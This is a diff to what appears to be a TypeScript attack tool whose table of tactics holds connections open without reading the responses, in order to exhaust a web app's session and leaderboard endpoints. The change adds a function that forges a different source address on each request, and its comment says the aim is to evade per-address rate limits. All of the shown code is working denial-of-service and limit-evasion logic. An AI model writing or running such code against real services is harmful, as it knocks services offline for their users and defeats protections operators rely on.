@@ -74,7 +74,7 @@ export const TACTICS = {
   'readers that never read': (attack) => holdSockets(attack, 1_000, () => STREAM, readNothing),
   'lists that are never read': async (attack) => {
     await bringCrowd(attack, 2_000);
-    await holdSockets(attack, 9_500, () => ALL_GUESTS, readNothing);
+    await holdSockets(attack, 9_500, listFromAnywhere, readNothing);
   },
   'files that are never read': async (attack) => {
     const page = await fetch(attack.url).then((response) => response.text());
@@ -114,6 +114,11 @@ function putHead(contentLength: number): string {
     'content-length': String(contentLength),
   };
   return `${headOf(`PUT /api/sessions/${sessionId}`, headers)}\r\n`;
+}
+
+/** Each from an address of its own, so that no limit of one address is met. */
+function listFromAnywhere(index: number): string {
+  return `${headOf('GET /api/leaderboard/guests', comingFrom(`10.0.${(index >> 8) & 255}.${index & 255}`))}\r\n`;
 }
 
 /** Of the 256 networks of a /56 in turn. */
